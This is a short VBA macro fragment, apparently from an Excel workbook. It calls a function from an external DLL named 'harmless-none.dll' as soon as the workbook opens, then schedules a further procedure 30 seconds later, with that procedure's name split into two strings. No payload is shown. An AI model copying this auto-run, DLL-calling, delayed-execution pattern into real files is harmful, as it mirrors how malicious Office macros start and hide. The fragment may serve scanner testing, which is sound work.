Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Private Sub Workbook_Open()
    StopHere
    Application.OnTime Now + TimeValue("00:00:30"), "Module1." & "Later"
End Sub
